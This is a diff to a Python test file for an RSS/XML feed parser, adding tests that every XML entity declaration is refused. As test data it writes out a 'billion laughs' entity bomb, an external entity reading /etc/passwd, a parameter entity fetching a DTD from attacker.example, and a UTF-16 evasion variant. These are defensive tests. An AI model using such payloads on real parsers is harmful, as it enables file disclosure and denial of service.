@@ -292,18 +292,71 @@ def test_feed_entries_give_their_article_urls_in_order():
     ]
 
 
-def test_a_broken_or_hostile_feed_gives_what_it_can():
-    assert feed_entry_urls(b"not xml at all") == []
-    hostile = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-               b"<rss><channel><item><link>&x;</link></item>"
-               b"<item><link>https://gazette.example/ok</link></item></channel></rss>")
-    assert feed_entry_urls(hostile) == ["https://gazette.example/ok"]
+# A "billion laughs" XML bomb (a sample): ten levels of ten copies, a few hundred bytes
+# that would expand to a billion "lol"s, before one good item.
+BILLION_LAUGHS = (
+    b'<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol0 "lol">\n'
+    + b"".join(b'<!ENTITY lol%d "%s">\n' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
+    + b']>\n<rss version="2.0"><channel><title>&lol9;</title>'
+    b"<item><link>https://gazette.example/ok</link></item></channel></rss>"
+)
+ONE_ITEM = b"<rss><channel><item><link>https://gazette.example/ok</link></item></channel></rss>"
+
+
+def test_a_feed_bomb_is_refused_at_once_naming_the_feed():
+    started = time.monotonic()
+    with pytest.raises(InputError) as err:
+        feed_entry_urls(BILLION_LAUGHS, name="https://gazette.example/feed.xml")
+    assert time.monotonic() - started < 1.0
+    assert str(err.value) == ("https://gazette.example/feed.xml: not a readable feed (it declares the XML "
+                              "entity 'lol0', and feeds with entity declarations are refused)")
+
+
+@pytest.mark.parametrize("prolog", [
+    b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',  # an external entity
+    b'<!DOCTYPE rss [<!ENTITY unused "never referred to">]>',  # declared, never used: refused all the same
+    b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]>',  # a parameter entity
+])
+def test_any_entity_declaration_is_refused(prolog):
+    with pytest.raises(InputError, match="^feed.xml: not a readable feed .it declares the XML entity"):
+        feed_entry_urls(b'<?xml version="1.0"?>' + prolog + ONE_ITEM, name="feed.xml")
+
+
+def test_an_entity_declaration_cannot_hide_behind_an_encoding():
+    with pytest.raises(InputError, match="declares the XML entity 'lol0'"):
+        feed_entry_urls(BILLION_LAUGHS.decode().replace('version="1.0"', 'version="1.0" encoding="utf-16"')
+                        .encode("utf-16"), name="feed.xml")
+
+
+def test_a_doctype_without_entities_is_read():
+    netscape = b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
+    internal = b"<!DOCTYPE rss [<!ELEMENT rss ANY>]>"
+    for prolog in (netscape, internal):
+        assert feed_entry_urls(b'<?xml version="1.0"?>' + prolog + ONE_ITEM) == ["https://gazette.example/ok"]
+
+
+@pytest.mark.parametrize("data, reason", [
+    (b"not xml at all", "syntax error"),
+    (b"", "no element found"),
+    (b'<?xml version="1.0"?><rss><chan', "unclosed token"),
+])
+def test_an_unreadable_feed_is_an_error_naming_it(data, reason):
+    with pytest.raises(InputError) as err:
+        feed_entry_urls(data, name="https://gazette.example/feed.xml")
+    assert str(err.value) == f"https://gazette.example/feed.xml: not a readable feed ({reason})"
+
+
+def test_a_feed_broken_after_its_items_gives_them():
+    broken = b"<rss><channel><item><title>Tom & Jerry</title><link>https://gazette.example/ok</link></item><item><li"
+    assert feed_entry_urls(broken) == ["https://gazette.example/ok"]
+    assert feed_entry_urls(b"<rss><channel><title>Quiet week</title></channel></rss>") == []  # well-formed, empty
 
 
 def test_feed_parsing_reads_only_the_bytes_it_is_given():
-    # the body of a page that names a local feed file: its text, not the file, is parsed
-    assert feed_entry_urls(str(FIXTURES / "sample-feed.rss").encode()) == []
-    assert feed_entry_urls(b"https://gazette.example/feed.xml") == []
+    # the body of a page that names a local feed file: its text is parsed (and is no feed), not the file
+    for body in (str(FIXTURES / "sample-feed.rss").encode(), b"https://gazette.example/feed.xml"):
+        with pytest.raises(InputError, match=r"^feed: not a readable feed \("):
+            feed_entry_urls(body)
 
 
 def test_rdf_feed_items_give_their_links():
